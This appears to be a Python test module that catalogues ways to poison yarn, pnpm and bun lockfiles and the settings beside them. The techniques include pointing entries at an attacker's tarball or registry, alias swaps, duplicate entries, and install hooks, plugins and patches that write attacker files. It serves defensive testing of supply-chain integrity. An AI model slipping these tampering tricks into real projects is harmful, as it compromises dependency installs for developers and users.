"""Mechanisms in the locks of yarn 1, yarn 4, pnpm and bun, and in the files beside them."""

import hashlib
from urllib.parse import quote

from tests.hostile_locks.clients import BUN, PNPM, YARN1, YARN4
from tests.hostile_locks.mechanism import OUTSIDE, mechanism
from tests.hostile_locks.patching import EVIL_JS, patch_of
from tests.hostile_locks.relocked_tricks import node_folder, node_repository
from tests.hostile_locks.scene import EVIL_SRI, EVIL_TGZ, GOOD_SRI, GULL_SRI, Scene, evil_tgz, sha1, sri
from tests.hostile_locks.world import attack_later, tarball

_YARN_ENTRY = r'kite@\^1\.0\.0:\n  version "1\.1\.0"\n  resolved [^\n]+\n  integrity [^\n]+\n'


def _yarn1(scene: Scene, *lines: str, key: str = "kite@^1.0.0") -> None:
    text = f"{key}:\n" + "".join(f"  {line}\n" for line in lines)
    scene.sub(_YARN_ENTRY, text)


def _yarn4_registry(scene: Scene, more: str = "") -> None:
    """Let the project's settings name the attacker's registry."""
    evil = scene.world.evil.npm_url.rstrip("/")
    scene.write(".yarnrc.yml", f'npmRegistryServer: "{evil}"\n{more}')


def _yarn1_evil(scene: Scene, integrity: str) -> None:
    """Point the entry of kite at the attacker's server."""
    _yarn1(scene, 'version "1.1.0"', f'resolved "{evil_tgz(scene.world)}"', f"integrity {integrity}")


def _evil_block(scene: Scene) -> str:
    return f'kite@^1.0.0:\n  version "1.1.0"\n  resolved "{evil_tgz(scene.world)}"\n  integrity {EVIL_SRI}\n'


# yarn 1


@mechanism("two-digests", YARN1, idea="1")
def yarn1_two_digests(scene: Scene) -> None:
    _yarn1_evil(scene, f'"{GOOD_SRI} {EVIL_SRI}"')


@mechanism("other-place", YARN1, idea="1")
def yarn1_other_place(scene: Scene) -> None:
    _yarn1_evil(scene, EVIL_SRI)


@mechanism("other-place-no-digest", YARN1, idea=OUTSIDE)
def yarn1_other_place_no_digest(scene: Scene) -> None:
    _yarn1(scene, 'version "1.1.0"', f'resolved "{evil_tgz(scene.world)}#{sha1(EVIL_TGZ)}"')


@mechanism("local-archive", YARN1, idea="2")
def yarn1_local_archive(scene: Scene) -> None:
    scene.write("vendor/good.tgz", EVIL_TGZ)
    _yarn1(
        scene, 'version "1.1.0"', f'resolved "file:vendor/good.tgz#{sha1(EVIL_TGZ)}"', f"integrity {EVIL_SRI}"
    )


@mechanism("alias-in-lock", YARN1, idea=OUTSIDE)
def yarn1_alias(scene: Scene) -> None:
    url = scene.world.good.npm_tarball_url("gull", "1.0.0")
    _yarn1(scene, 'version "1.1.0"', f'resolved "{url}"', f"integrity {GULL_SRI}")


@mechanism("duplicate-entry-key", YARN1, idea=OUTSIDE)
def yarn1_duplicate(scene: Scene) -> None:
    scene.write(scene.client.lock, f"{scene.lock}\n{_evil_block(scene)}")


@mechanism("duplicate-field", YARN1, idea=OUTSIDE)
def yarn1_duplicate_field(scene: Scene) -> None:
    scene.sub(
        r"(?<=kite@\^1\.0\.0:\n).*\Z",
        lambda found: f'{found[0].rstrip()}\n  resolved "{evil_tgz(scene.world)}"\n  integrity {EVIL_SRI}\n',
    )


@mechanism("merge-conflict", YARN1, idea=OUTSIDE)
def yarn1_merge_conflict(scene: Scene) -> None:
    scene.sub(
        _YARN_ENTRY, lambda found: f"<<<<<<< HEAD\n{found[0]}=======\n{_evil_block(scene)}>>>>>>> topic\n"
    )


@mechanism("unanswered-in-lock", YARN1, YARN4, idea="6")
def yarn_unanswered_in_lock(scene: Scene) -> None:
    if scene.format == YARN1:
        scene.replace('    kite "^1.0.0"\n', '    gull "^1.0.0"\n    kite "^1.0.0"\n')
    else:
        scene.sub(r'(?<=resolution: "fleet@npm:2\.0\.0"\n  dependencies:\n)', '    gull: "npm:^1.0.0"\n')


@mechanism("entry-taken-out", YARN1, YARN4, PNPM, BUN, idea="6")
def entry_taken_out(scene: Scene) -> None:
    """Take an entry out and let the registry of the project's own file answer the request."""
    scene.write(".npmrc", f"registry={scene.world.evil.npm_url}\n")
    match scene.format:
        case "yarn1":
            scene.sub(_YARN_ENTRY, "")
        case "yarn4":
            _yarn4_registry(scene)
            scene.sub(r'"kite@npm:\^1\.0\.0":\n.*?linkType: hard\n', "")
        case "pnpm":
            scene.sub(r"  kite@1\.1\.0:\n    resolution: [^\n]+\n", "")
            scene.sub(r"  kite@1\.1\.0: \{\}\n", "")
        case "bun":
            scene.sub(r'    "kite": \[[^\n]+\n', "")


@mechanism("unanswered-in-manifest", YARN1, YARN4, PNPM, BUN, idea="6")
def unanswered_in_manifest(scene: Scene) -> None:
    scene.manifest(lambda document: document["dependencies"].update(gull="^1.0.0"))


@mechanism("unanswered-optional-in-manifest", YARN1, YARN4, PNPM, BUN, idea="7")
def unanswered_optional(scene: Scene) -> None:
    scene.manifest(lambda document: document.update(optionalDependencies={"gull": "^1.0.0"}))


@mechanism("manifest-address", YARN1, YARN4, PNPM, BUN, idea=OUTSIDE)
def manifest_address(scene: Scene) -> None:
    scene.manifest(lambda document: document["dependencies"].update(kite=evil_tgz(scene.world)))


@mechanism("resolutions-in-manifest", YARN1, YARN4, BUN, idea="8", settings_file="package.json")
def resolutions(scene: Scene) -> None:
    scene.manifest(lambda document: document.update(resolutions={"kite": "npm:gull@1.0.0"}))


@mechanism("overrides-in-manifest", BUN, idea="8", settings_file="package.json")
def bun_overrides(scene: Scene) -> None:
    scene.manifest(lambda document: document.update(overrides={"kite": "npm:gull@1.0.0"}))


@mechanism("overrides-in-manifest", PNPM, idea="8", settings_file="pnpm-workspace.yaml")
def pnpm_overrides(scene: Scene) -> None:
    scene.write("pnpm-workspace.yaml", "overrides:\n  kite: npm:gull@1.0.0\n")


@mechanism("workspace-takes-name", YARN1, YARN4, BUN, PNPM, idea=OUTSIDE)
def workspace_takes_name(scene: Scene) -> None:
    if scene.format == PNPM:
        scene.write("pnpm-workspace.yaml", 'packages: ["parts/*"]\nlinkWorkspacePackages: true\n')
    else:
        scene.manifest(lambda document: document.update(private=True, workspaces=["parts/*"]))
    node_folder(scene, "parts/kite")


@mechanism("resolved-taken-out", YARN1, idea=OUTSIDE)
def resolved_taken_out(scene: Scene) -> None:
    _yarn1(scene, 'version "1.1.0"', f"integrity {GOOD_SRI}")
    attack_later(scene.world)


@mechanism("comment-inside-entry", YARN1, idea=OUTSIDE)
def comment_inside_entry(scene: Scene) -> None:
    scene.sub(r'(?<=kite@\^1\.0\.0:\n  version "1\.1\.0"\n)', "# more\n")
    attack_later(scene.world)


@mechanism("root-lost-requests", BUN, idea=OUTSIDE)
def root_lost_requests(scene: Scene) -> None:
    """Rename the list of what the project asks for, so that bun finds none in its lock."""
    scene.sub(r'"dependencies": (?=\{\n)', '"dependenciez": ')
    attack_later(scene.world)


@mechanism("registry-in-yarnrc", YARN1, idea="8", settings_file=".yarnrc")
def registry_in_yarnrc(scene: Scene) -> None:
    scene.write(".yarnrc", f'registry "{scene.world.evil.npm_url}"\n')
    _yarn1(scene, 'version "1.1.0"')


@mechanism("yarn-path", YARN1, YARN4, idea="8", settings_file=".yarnrc")
def yarn_path(scene: Scene) -> None:
    """Start a program of the repository in place of yarn: it writes the attacker's file."""
    program = (
        "const fs = require('fs')\nfs.mkdirSync('node_modules/kite', { recursive: true })\n"
        "fs.writeFileSync('node_modules/kite/index.js', '// suite-token:evil:kite-1.1.0')\n"
    )
    scene.write(".yarn/releases/yarn.cjs", program)
    if scene.format == YARN1:
        scene.write(".yarnrc", 'yarn-path ".yarn/releases/yarn.cjs"\n')
    else:
        scene.write(".yarnrc.yml", "yarnPath: .yarn/releases/yarn.cjs\n")


@mechanism("offline-mirror", YARN1, idea=OUTSIDE, settings_file=".yarnrc")
def offline_mirror(scene: Scene) -> None:
    """Let a folder of the repository answer for the registry."""
    scene.write(".yarnrc", 'yarn-offline-mirror "./mirror"\n')
    scene.write("mirror/kite-1.1.0.tgz", EVIL_TGZ)
    _yarn1(scene, 'version "1.1.0"', f'resolved "kite-1.1.0.tgz#{sha1(EVIL_TGZ)}"')


@mechanism("pattern-of-another-name", YARN1, idea=OUTSIDE)
def yarn1_pattern(scene: Scene) -> None:
    """Give the entry the pattern of an alias beside its own."""
    url = scene.world.good.npm_tarball_url("gull", "1.0.0")
    _yarn1(
        scene,
        'version "1.0.0"',
        f'resolved "{url}"',
        f"integrity {GULL_SRI}",
        key='"kite@^1.0.0", "kite@npm:gull@1.0.0"',
    )


# yarn 4


def _resolve(scene: Scene, resolution: str) -> None:
    """Give the entry of kite another resolution, and no checksum."""
    scene.replace('resolution: "kite@npm:1.1.0"', f'resolution: "{resolution}"')
    _drop_checksum(scene)


def _drop_checksum(scene: Scene) -> None:
    scene.sub(r"(?<=linkType: hard\n\n\"kite).*\Z", lambda found: _without_checksum(found[0]))


def _without_checksum(text: str) -> str:
    return "\n".join(line for line in text.split("\n") if not line.startswith("  checksum:"))


@mechanism("resolution-of-another-name", YARN4, idea=OUTSIDE)
def yarn4_alias(scene: Scene) -> None:
    _resolve(scene, "gull@npm:1.0.0")


@mechanism("other-version-resolved", YARN4, idea=OUTSIDE)
def yarn4_other_version(scene: Scene) -> None:
    _resolve(scene, "kite@npm:1.0.0")


@mechanism("archive-address", YARN4, idea=OUTSIDE)
def yarn4_archive_address(scene: Scene) -> None:
    _resolve(scene, f"kite@npm:1.1.0::__archiveUrl={quote(evil_tgz(scene.world), safe='')}")


@mechanism("resolution-is-address", YARN4, idea=OUTSIDE)
def yarn4_address(scene: Scene) -> None:
    _resolve(scene, f"kite@{evil_tgz(scene.world)}")


@mechanism("local-archive", YARN4, idea="2")
def yarn4_local_archive(scene: Scene) -> None:
    scene.write("vendor/kite.tgz", EVIL_TGZ)
    _resolve(scene, "kite@file:./vendor/kite.tgz::locator=app%40workspace%3A.")


@mechanism("local-folder", YARN4, idea="2")
def yarn4_portal(scene: Scene) -> None:
    node_folder(scene, "vendor/kite")
    _resolve(scene, "kite@portal:./vendor/kite::locator=app%40workspace%3A.")


@mechanism("registry-in-settings", YARN4, idea="8", settings_file=".yarnrc.yml")
def yarn4_registry(scene: Scene) -> None:
    _yarn4_registry(scene)
    _drop_checksum(scene)


@mechanism("checksums-ignored", YARN4, idea=OUTSIDE, settings_file=".yarnrc.yml")
def yarn4_checksums_ignored(scene: Scene) -> None:
    _yarn4_registry(scene, "checksumBehavior: update\n")


@mechanism("yarn-plugin", YARN4, idea="8", settings_file=".yarnrc.yml")
def yarn4_plugin(scene: Scene) -> None:
    scene.write(
        ".yarn/plugins/plugin.cjs",
        "module.exports = { name: 'plugin', factory: () => ({ hooks: { afterAllInstalled() {\n"
        "  require('fs').writeFileSync('node_modules/kite/index.js', '// suite-token:evil:kite-1.1.0')\n} } }) }\n",
    )
    scene.write(".yarnrc.yml", "plugins:\n  - path: .yarn/plugins/plugin.cjs\n    spec: plugin\n")


@mechanism("package-extensions", YARN4, idea=OUTSIDE, settings_file=".yarnrc.yml")
def yarn4_extensions(scene: Scene) -> None:
    scene.write(".yarnrc.yml", 'packageExtensions:\n  "fleet@*":\n    dependencies:\n      gull: "^1.0.0"\n')


@mechanism("patch", YARN4, idea="8", settings_file="patches/kite.patch")
def yarn4_patch(scene: Scene) -> None:
    scene.write("patches/kite.patch", patch_of(EVIL_JS))
    patched = "patch:kite@npm%3A^1.0.0#./patches/kite.patch"
    scene.manifest(lambda document: document["dependencies"].update(kite=patched))


@mechanism("patch-in-lock", YARN4, idea=OUTSIDE)
def yarn4_patch_in_lock(scene: Scene) -> None:
    scene.write("patches/kite.patch", patch_of(EVIL_JS))
    _resolve(scene, "kite@patch:kite@npm%3A1.1.0#./patches/kite.patch::locator=app%40workspace%3A.")


@mechanism("merge-conflict", YARN4, idea=OUTSIDE)
def yarn4_merge_conflict(scene: Scene) -> None:
    evil = 'resolution: "gull@npm:1.0.0"'
    scene.sub(
        r'  resolution: "kite@npm:1\.1\.0"\n',
        lambda found: f"<<<<<<< HEAD\n{found[0]}=======\n  {evil}\n>>>>>>> topic\n",
    )


@mechanism("cache-committed", YARN4, idea=OUTSIDE, settings_file=".yarnrc.yml")
def yarn4_conditions(scene: Scene) -> None:
    """Hide an entry behind a condition of another system; the attacker's registry answers for it."""
    _yarn4_registry(scene)
    _drop_checksum(scene)
    scene.sub(r"(?<=kite@npm:1\.1\.0\"\n)", "  conditions: os=linux\n")


# pnpm


def _resolution(scene: Scene, text: str) -> None:
    scene.sub(r"(?<=  kite@1\.1\.0:\n    resolution: )\{[^\n]+\}", text)


def _evil_resolution(scene: Scene, integrity: str = EVIL_SRI) -> str:
    return f"{{integrity: {integrity}, tarball: {evil_tgz(scene.world)}}}"


@mechanism("two-digests", PNPM, idea="1")
def pnpm_two_digests(scene: Scene) -> None:
    _resolution(scene, _evil_resolution(scene, f"'{GOOD_SRI} {EVIL_SRI}'"))


@mechanism("other-place", PNPM, idea="1")
def pnpm_other_place(scene: Scene) -> None:
    _resolution(scene, _evil_resolution(scene))


@mechanism("other-place-no-digest", PNPM, idea=OUTSIDE)
def pnpm_other_place_no_digest(scene: Scene) -> None:
    _resolution(scene, f"{{tarball: {evil_tgz(scene.world)}}}")


@mechanism("local-archive", PNPM, idea="2")
def pnpm_local_archive(scene: Scene) -> None:
    scene.write("vendor/good.tgz", EVIL_TGZ)
    _resolution(scene, f"{{integrity: {EVIL_SRI}, tarball: 'file:vendor/good.tgz'}}")


@mechanism("local-archive-outside", PNPM, idea="2")
def pnpm_local_archive_outside(scene: Scene) -> None:
    (scene.folder.parent / "beside.tgz").write_bytes(EVIL_TGZ)
    _resolution(scene, f"{{integrity: {EVIL_SRI}, tarball: 'file:../beside.tgz'}}")


@mechanism("local-folder", PNPM, idea="2")
def pnpm_folder(scene: Scene) -> None:
    node_folder(scene, "vendor/kite")
    _resolution(scene, "{directory: vendor/kite, type: directory}")


@mechanism("linked-folder", PNPM, idea="2")
def pnpm_link(scene: Scene) -> None:
    node_folder(scene, "vendor/kite")
    scene.replace("        version: 1.1.0\n", "        version: link:vendor/kite\n")


@mechanism("local-git", PNPM, idea=OUTSIDE)
def pnpm_git(scene: Scene) -> None:
    address, commit = node_repository(scene)
    _resolution(scene, f"{{commit: {commit}, repo: '{address}', type: git}}")


@mechanism("alias-in-lock", PNPM, idea=OUTSIDE)
def pnpm_alias(scene: Scene) -> None:
    scene.replace("        version: 1.1.0\n", "        version: gull@1.0.0\n")
    scene.sub(r"(?<=^packages:\n)", f"\n  gull@1.0.0:\n    resolution: {{integrity: {GULL_SRI}}}\n")
    scene.sub(r"(?<=^snapshots:\n)", "\n  gull@1.0.0: {}\n")


@mechanism("tarball-of-another-name", PNPM, idea=OUTSIDE)
def pnpm_other_name(scene: Scene) -> None:
    _resolution(
        scene, f"{{integrity: {GULL_SRI}, tarball: {scene.world.good.npm_tarball_url('gull', '1.0.0')}}}"
    )


@mechanism("optional-for-other-system", PNPM, idea=OUTSIDE)
def pnpm_other_system(scene: Scene) -> None:
    _resolution(scene, f"{_evil_resolution(scene)}\n    os: ['!nosuch']\n    cpu: [any]")
    scene.replace("  kite@1.1.0: {}", "  kite@1.1.0:\n    optional: true")


@mechanism("duplicate-entry-key", PNPM, idea=OUTSIDE)
def pnpm_duplicate(scene: Scene) -> None:
    scene.sub(r"(?=^snapshots:)", f"  kite@1.1.0:\n    resolution: {_evil_resolution(scene)}\n\n")


@mechanism("yaml-merge-key", PNPM, idea=OUTSIDE)
def pnpm_merge_key(scene: Scene) -> None:
    evil = f"  kite@1.1.0: &kite\n    resolution: {_evil_resolution(scene)}\n"
    scene.sub(r"  kite@1\.1\.0:\n    resolution: [^\n]+\n", evil)


@mechanism("second-document", PNPM, idea=OUTSIDE)
def pnpm_second_document(scene: Scene) -> None:
    """Put the attacker's lock as a second YAML document behind, and the honest one before."""
    evil = scene.lock.replace(f"{{integrity: {GOOD_SRI}}}", _evil_resolution(scene))
    scene.write(scene.client.lock, f"---\n{scene.lock}\n---\n{evil}")


@mechanism("patch", PNPM, BUN, idea="8", settings_file="patches/kite.patch")
def patch(scene: Scene) -> None:
    scene.write("patches/kite.patch", patch_of(EVIL_JS))
    if scene.format == PNPM:
        text = "patchedDependencies:\n  kite@1.1.0: patches/kite.patch\n"
        scene.write("pnpm-workspace.yaml", text)
    else:
        scene.manifest(
            lambda document: document.update(patchedDependencies={"kite@1.1.0": "patches/kite.patch"})
        )
        scene.replace(
            '  "packages": {',
            '  "patchedDependencies": {\n    "kite@1.1.0": "patches/kite.patch",\n  },\n  "packages": {',
        )


@mechanism("patch-in-lock", BUN, idea="8")
def bun_patch_in_lock(scene: Scene) -> None:
    scene.write("patches/kite.patch", patch_of(EVIL_JS))
    scene.replace(
        '  "packages": {',
        '  "patchedDependencies": {\n    "kite@1.1.0": "patches/kite.patch",\n  },\n  "packages": {',
    )


@mechanism("patch-in-lock", PNPM, idea="8", settings_file="patches/kite.patch")
def pnpm_patch_in_lock(scene: Scene) -> None:
    """Write lock and settings as pnpm itself does after `pnpm patch-commit`."""
    text = patch_of(EVIL_JS)
    scene.write("patches/kite.patch", text)
    digest = hashlib.sha256(text.encode()).hexdigest()
    scene.write("pnpm-workspace.yaml", "patchedDependencies:\n  kite@1.1.0: patches/kite.patch\n")
    entry = f"patchedDependencies:\n  kite@1.1.0:\n    hash: {digest}\n    path: patches/kite.patch\n\n"
    scene.sub(r"(?=^importers:)", entry)
    scene.replace("        version: 1.1.0\n", f"        version: 1.1.0(patch_hash={digest})\n")
    scene.replace("      kite: 1.1.0\n", f"      kite: 1.1.0(patch_hash={digest})\n")
    scene.replace("  kite@1.1.0: {}", f"  kite@1.1.0(patch_hash={digest}): {{}}")


@mechanism("registry-in-npmrc", PNPM, YARN1, BUN, idea="8", settings_file=".npmrc")
def registry_in_npmrc(scene: Scene) -> None:
    scene.write(".npmrc", f"registry={scene.world.evil.npm_url}\n")
    match scene.format:
        case "pnpm":
            _resolution(scene, "{}")
        case "yarn1":
            _yarn1(scene, 'version "1.1.0"')
        case "bun":
            _bun(scene, f'"kite@1.1.0", "", {{}}, "{EVIL_SRI}"')


@mechanism("pnpmfile", PNPM, idea="8", settings_file=".pnpmfile.cjs")
def pnpmfile(scene: Scene) -> None:
    scene.write(
        ".pnpmfile.cjs",
        "const fs = require('fs')\nmodule.exports = { hooks: { readPackage: (p) => { if (p.name === 'fleet')"
        " p.dependencies.gull = '^1.0.0'; return p } } }\n",
    )


@mechanism("pnpmfile-resolver", PNPM, idea=OUTSIDE, settings_file=".pnpmfile.cjs")
def pnpmfile_fetcher(scene: Scene) -> None:
    """Change the lock when it was read, behind the lock's back."""
    scene.write(
        ".pnpmfile.cjs",
        "module.exports = { hooks: { afterAllResolved: (lock) => { for (const key of Object.keys(lock.packages))"
        f" if (key.includes('kite')) lock.packages[key].resolution = {{ tarball: '{evil_tgz(scene.world)}' }}; return lock }} }} }}\n",
    )


@mechanism("lock-settings", PNPM, idea=OUTSIDE)
def pnpm_lock_overrides(scene: Scene) -> None:
    """Write overrides into the lock and the workspace file, with the entry of the attacker's name."""
    scene.write("pnpm-workspace.yaml", "overrides:\n  kite: npm:gull@1.0.0\n")
    scene.sub(r"(?=^importers:)", "overrides:\n  kite: npm:gull@1.0.0\n\n")
    scene.replace(
        "        specifier: ^1.0.0\n        version: 1.1.0\n",
        "        specifier: npm:gull@1.0.0\n        version: gull@1.0.0\n",
    )
    scene.replace("      kite: 1.1.0\n", "      kite: gull@1.0.0\n")
    scene.sub(
        r"  kite@1\.1\.0:\n    resolution: [^\n]+\n",
        f"  gull@1.0.0:\n    resolution: {{integrity: {GULL_SRI}}}\n",
    )
    scene.replace("  kite@1.1.0: {}", "  gull@1.0.0: {}")


# bun


def _bun(scene: Scene, text: str, key: str = "kite") -> None:
    scene.sub(r'    "kite": \[[^\n]+\n', f'    "{key}": [{text}],\n')


def _bun_evil(scene: Scene, integrity: str) -> None:
    """Point the entry of kite at the attacker's server."""
    _bun(scene, f'"kite@1.1.0", "{evil_tgz(scene.world)}", {{}}, "{integrity}"')


@mechanism("two-digests", BUN, idea="1")
def bun_two_digests(scene: Scene) -> None:
    _bun_evil(scene, f"{EVIL_SRI} {GOOD_SRI}")


@mechanism("two-digests-evil-last", BUN, idea="1")
def bun_two_digests_evil_last(scene: Scene) -> None:
    _bun_evil(scene, f"{GOOD_SRI} {EVIL_SRI}")


@mechanism("other-place", BUN, idea="1")
def bun_other_place(scene: Scene) -> None:
    _bun_evil(scene, EVIL_SRI)


@mechanism("other-place-no-digest", BUN, idea=OUTSIDE)
def bun_other_place_no_digest(scene: Scene) -> None:
    _bun_evil(scene, "")


@mechanism("unknown-algorithm", BUN, idea=OUTSIDE)
def bun_unknown_algorithm(scene: Scene) -> None:
    _bun_evil(scene, GOOD_SRI.replace("sha512-", "sha3-"))


@mechanism("malformed-digest", BUN, YARN1, idea=OUTSIDE)
def malformed_digest(scene: Scene) -> None:
    bad = GOOD_SRI.replace("sha512-", "sha512:")
    if scene.format == BUN:
        _bun_evil(scene, bad)
    else:
        _yarn1_evil(scene, f'"{bad}"')


@mechanism("local-archive", BUN, idea="2")
def bun_local_archive(scene: Scene) -> None:
    scene.write("vendor/kite.tgz", EVIL_TGZ)
    _bun(scene, f'"kite@vendor/kite.tgz", {{}}, "{EVIL_SRI}"')


@mechanism("local-folder", BUN, idea="2")
def bun_folder(scene: Scene) -> None:
    node_folder(scene, "vendor/kite")
    _bun(scene, '"kite@file:vendor/kite", {}')


@mechanism("resolution-is-address", BUN, idea=OUTSIDE)
def bun_address(scene: Scene) -> None:
    _bun(scene, f'"kite@{evil_tgz(scene.world)}", {{}}, "{EVIL_SRI}"')


@mechanism("alias-in-lock", BUN, idea=OUTSIDE)
def bun_alias(scene: Scene) -> None:
    url = scene.world.good.npm_tarball_url("gull", "1.0.0")
    _bun(scene, f'"gull@1.0.0", "{url}", {{}}, "{GULL_SRI}"')


@mechanism("nested-entry", BUN, idea=OUTSIDE)
def bun_nested(scene: Scene) -> None:
    scene.sub(
        r'(?=    "kite": \[)',
        f'    "fleet/kite": ["kite@1.1.0", "{evil_tgz(scene.world)}", {{}}, "{EVIL_SRI}"],\n',
    )


@mechanism("duplicate-entry-key", BUN, idea=OUTSIDE)
def bun_duplicate(scene: Scene) -> None:
    scene.sub(
        r'(?<="kite@1\.1\.0", )([^\n]+\n)',
        lambda found: (
            f'{found[0]}    "kite": ["kite@1.1.0", "{evil_tgz(scene.world)}", {{}}, "{EVIL_SRI}"],\n'
        ),
    )


@mechanism("optional-for-other-system", BUN, idea=OUTSIDE)
def bun_other_system(scene: Scene) -> None:
    _bun(scene, f'"kite@1.1.0", "{evil_tgz(scene.world)}", {{ "os": "!nosuch" }}, "{EVIL_SRI}"')


@mechanism("unanswered-in-lock", BUN, PNPM, idea="6")
def unanswered_in_lock(scene: Scene) -> None:
    if scene.format == BUN:
        scene.replace(
            '{ "dependencies": { "kite": "^1.0.0" } }',
            '{ "dependencies": { "kite": "^1.0.0", "gull": "^1.0.0" } }',
        )
    else:
        scene.replace("      kite: 1.1.0\n", "      gull: 1.0.0\n      kite: 1.1.0\n")


@mechanism("registry-in-bunfig", BUN, idea="8", settings_file="bunfig.toml")
def bunfig(scene: Scene) -> None:
    scene.write("bunfig.toml", f'[install]\nregistry = "{scene.world.evil.npm_url}"\n')
    _bun(scene, '"kite@1.1.0", "", {}, ""')


@mechanism("npm-lock-instead", BUN, idea=OUTSIDE)
def bun_migrates(scene: Scene) -> None:
    """Take bun.lock away and leave a yarn.lock of the attacker, which bun migrates."""
    (scene.folder / scene.client.lock).unlink()
    url = scene.world.good.npm_tarball_url("fleet", "2.0.0")
    fleet = sri(tarball("fleet", "2.0.0", "good"))
    scene.write(
        "yarn.lock",
        "# yarn lockfile v1\n\n\n"
        f'fleet@^2.0.0:\n  version "2.0.0"\n  resolved "{url}"\n  integrity {fleet}\n  dependencies:\n    kite "^1.0.0"\n\n'
        f"{_evil_block(scene)}",
    )
